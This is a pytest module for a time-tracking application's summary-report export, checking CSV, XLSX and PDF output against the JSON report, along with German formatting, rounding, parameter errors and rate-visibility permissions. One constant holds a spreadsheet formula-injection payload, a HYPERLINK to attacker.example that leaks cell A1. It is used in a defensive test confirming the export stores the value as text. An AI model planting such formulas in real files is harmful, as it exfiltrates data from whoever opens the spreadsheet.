"""``GET /exports/reports/summary``: the summary report as a file, checked against what
``GET /reports/summary`` answers for the same parameters."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

import httpx
import pytest
from conftest import assert_error
from fastapi import FastAPI
from test_permissions_matrix import PEOPLE, World, _as, world

from exports.common import book, cached_values_sheet, make_user, minutes, pdf_text, workbook_sheet
from exports.test_access import ADMIN, REACHED
from timetrack.accounts.service import update_account
from timetrack.exports.language import hmm
from timetrack.exports.summary import sheet

__all__ = ["world"]  # the fixture, found by pytest among this module's names

PATH = "/exports/reports/summary"
YEAR = {"from": "2025-01-01", "to": "2025-12-31"}
BY_CLIENT_AND_USER = YEAR | {"groupBy": "client", "subGroupBy": "user", "lang": "en"}
FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'


async def _entries(api: httpx.AsyncClient) -> None:
    await make_user(api, "anna")
    await make_user(api, "bert")
    await book(api, "anna", "Acme GmbH", "2025-01-06", hourRate=80)
    await book(api, "bert", "Acme GmbH", "2025-01-07", "08:00", "16:45", hourRate=100)
    await book(api, "anna", FORMULA, "2025-02-03", "09:00", "09:20", billable=False)
    await book(api, "anna", "Acme GmbH", "2026-01-05")  # outside the period


async def _report(api: httpx.AsyncClient, params: dict[str, str]) -> dict[str, Any]:
    response = await api.get("/reports/summary", params=params)
    assert response.status_code == 200, response.text
    report: dict[str, Any] = response.json()
    return report


def _flat(report: dict[str, Any]) -> list[tuple[int, str, str, dict[str, Any]]]:
    """The report's groups and subgroups as the export's rows: level, group, subgroup, sums."""
    rows = []
    for group in report["groups"]:
        rows.append((1, group["name"], "", group))
        rows.extend((2, group["name"], sub["name"], sub) for sub in group["groups"])
    return rows


def _csv(response: httpx.Response) -> tuple[list[str], list[dict[str, str]]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    header, *rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    return header, [dict(zip(header, row, strict=True)) for row in rows]


def _unguarded(text: str) -> str:
    return text[1:] if text.startswith("'=") else text


async def test_the_csv_parses_back_to_the_reports_groups(api: httpx.AsyncClient) -> None:
    await _entries(api)
    report = await _report(api, BY_CLIENT_AND_USER)
    header, rows = _csv(await api.get(PATH, params=BY_CLIENT_AND_USER))
    assert header == [
        "Level", "Client", "User", "Entries", "Worked (h)", "Worked (h:mm)", "Billable (h)",
        "Billable (h:mm)", "Amount",
    ]  # fmt: skip
    expected = _flat(report)
    assert len(rows) == len(expected) == 5  # two clients, anna and bert under Acme GmbH
    for row, (level, group, sub, sums) in zip(rows, expected, strict=True):
        assert (int(row["Level"]), _unguarded(row["Client"]), row["User"]) == (level, group, sub)
        assert int(row["Entries"]) == sums["entries"]
        assert Decimal(row["Worked (h)"]) == round(Decimal(sums["workedMinutes"]) / 60, 2)
        assert row["Worked (h:mm)"] == hmm(sums["workedMinutes"] * 60)
        assert row["Billable (h:mm)"] == hmm(sums["billableMinutes"] * 60)
        assert Decimal(row["Amount"]) == Decimal(str(sums["amount"]))
    groups = [row for row in rows if row["Level"] == "1"]
    assert sum(int(row["Entries"]) for row in groups) == report["totals"]["entries"] == 3
    assert sum(Decimal(row["Amount"]) for row in groups) == Decimal("995.00")


async def test_one_level_has_no_level_column_and_german_headings(api: httpx.AsyncClient) -> None:
    await _entries(api)
    params = YEAR | {"groupBy": "month", "lang": "de"}
    report = await _report(api, params)
    response = await api.get(PATH, params=params)
    text = response.content.decode("utf-8-sig")
    header, *rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert header[:3] == ["Monat", "Einträge", "Arbeitszeit (h)"]
    months = [g["name"] for g in report["groups"]]
    assert [row[0] for row in rows] == months == ["2025-01", "2025-02"]
    assert rows[0][2] == "10,25"  # 1:30 + 8:45, with the German decimal comma


async def test_the_xlsx_has_numbers_and_the_reports_totals(api: httpx.AsyncClient) -> None:
    await _entries(api)
    params = BY_CLIENT_AND_USER | {"format": "xlsx", "rounding": "up", "roundingMinutes": "60"}
    report = await _report(api, params)
    response = await api.get(PATH, params=params)
    book_sheet = workbook_sheet(response)
    keys = [c.key for c in sheet(("client", "user")).columns]
    assert book_sheet.max_row == 1 + 5 + 1
    for row in book_sheet.iter_rows(min_row=2, max_row=6):
        for key in ("level", "entries", "workedHours", "billableHours", "amount"):
            assert row[keys.index(key)].data_type == "n", key
    totals = next(iter(cached_values_sheet(response).iter_rows(min_row=7, values_only=True)))
    expected = report["totals"]
    assert totals[0] == "Total"
    assert totals[keys.index("entries")] == expected["entries"] == 3
    assert totals[keys.index("workedHours")] == pytest.approx(expected["workedMinutes"] / 60)
    # Each entry rounded up to the hour before summing: 2 + 9 + 1 hours.
    assert minutes(totals[keys.index("workedHMM")]) == expected["workedMinutes"] == 12 * 60
    assert minutes(totals[keys.index("billableHMM")]) == expected["billableMinutes"]
    assert totals[keys.index("amount")] == pytest.approx(expected["amount"])


async def test_tag_groups_keep_the_reports_totals(api: httpx.AsyncClient) -> None:
    """An entry with two tags counts in both tag groups; the totals row still counts it once."""
    await make_user(api, "anna")
    await book(api, "anna", "Acme GmbH", "2025-01-06", tags="#a #b")
    params = YEAR | {"groupBy": "tag", "format": "xlsx"}
    totals = list(cached_values_sheet(await api.get(PATH, params=params)).iter_rows(min_row=4))
    assert totals[0][0].value == "Total" and totals[0][1].value == 1


async def test_the_pdf_shows_the_groups_and_the_totals(
    api: httpx.AsyncClient, account: object
) -> None:
    await _entries(api)
    report = await _report(api, BY_CLIENT_AND_USER)
    response = await api.get(PATH, params=BY_CLIENT_AND_USER | {"format": "pdf"})
    pages, text = pdf_text(response)
    assert pages == 1 and "Page 1 of 1" in text
    assert "Summary: Client / User" in text
    assert account.account.name in text  # type: ignore[attr-defined]
    assert "Period: 2025-01-01 - 2025-12-31" in text
    assert "Acme GmbH" in text and "=HYPERLINK" in text and "bert" in text
    total_line = next(line for line in text.splitlines() if line.startswith("Total"))
    assert hmm(report["totals"]["workedMinutes"] * 60) in total_line
    assert "995.00" in total_line
    name = response.headers["content-disposition"].split('"')[1]
    slug = account.account.slug  # type: ignore[attr-defined]
    assert name.startswith(f"{slug}_summary_client-user_2025-01-01_2025-12-31_")
    assert name.endswith("Z.pdf")


async def test_a_name_that_looks_like_a_formula_stays_text(api: httpx.AsyncClient) -> None:
    await _entries(api)
    _, rows = _csv(await api.get(PATH, params=BY_CLIENT_AND_USER))
    assert rows[0]["Client"] == "'" + FORMULA  # "=" sorts before "A"
    book_sheet = workbook_sheet(await api.get(PATH, params=BY_CLIENT_AND_USER | {"format": "xlsx"}))
    cell = book_sheet.cell(row=2, column=2)
    assert cell.data_type == "s" and cell.value == FORMULA and cell.quotePrefix


@pytest.mark.parametrize(
    ("params", "code", "parameter"),
    [
        ({"groupBy": "decade"}, 22010, "groupBy"),
        ({"groupBy": "user", "subGroupBy": "user"}, 22011, "subGroupBy"),
        ({"groupBy": "user", "from": "2025-02-01", "to": "2025-01-01"}, 22020, "to"),
        ({"groupBy": "user", "format": "docx"}, 23010, "format"),
        ({"groupBy": "user", "lang": "fr"}, 23011, "lang"),
        ({"groupBy": "user", "username": "nobody"}, 14040, "username"),
    ],
)
async def test_bad_parameters_answer_the_envelope(
    api: httpx.AsyncClient, params: dict[str, str], code: int, parameter: str
) -> None:
    assert_error(await api.get(PATH, params=YEAR | params), 400, code, parameter=parameter)


async def test_the_amount_only_where_rates_are_shown(world: World, app: FastAPI) -> None:
    params = {"from": "2026-01-01", "to": "2026-12-31", "groupBy": "user", "lang": "en"}
    async with _as(world, "mia", ADMIN) as mia, _as(world, "ada", ADMIN) as ada:
        header, rows = _csv(await mia.get(PATH, params=params))
        assert "Amount" not in header and {row["User"] for row in rows} == REACHED["mia"]
        book_sheet = workbook_sheet(await mia.get(PATH, params=params | {"format": "xlsx"}))
        assert "Amount" not in [c.value for c in book_sheet[1]]
        assert "Amount" in _csv(await ada.get(PATH, params=params))[0]
        async with app.state.db.transaction(write=True) as tx:
            await update_account(tx, world.account.account.slug, rates_visible=True)
        assert _csv(await mia.get(PATH, params=params))[0][-1] == "Amount"


@pytest.mark.parametrize("viewer", PEOPLE)
async def test_a_username_out_of_reach_answers_like_an_unknown_one(
    world: World, viewer: str
) -> None:
    params = {"from": "2026-01-01", "to": "2026-12-31", "groupBy": "user"}
    async with _as(world, viewer, ADMIN) as caller:
        missing = await caller.get(PATH, params=params | {"username": "nobody"})
        assert_error(missing, 400, 14040, parameter="username")
        for owner in PEOPLE:
            response = await caller.get(PATH, params=params | {"username": owner})
            if owner in REACHED[viewer]:
                assert response.status_code == 200, (viewer, owner, response.text)
            else:
                error = assert_error(response, 400, 14040, parameter="username")
                assert error["detail"] == missing.json()["errors"][0]["detail"].replace(
                    "nobody", owner
                )
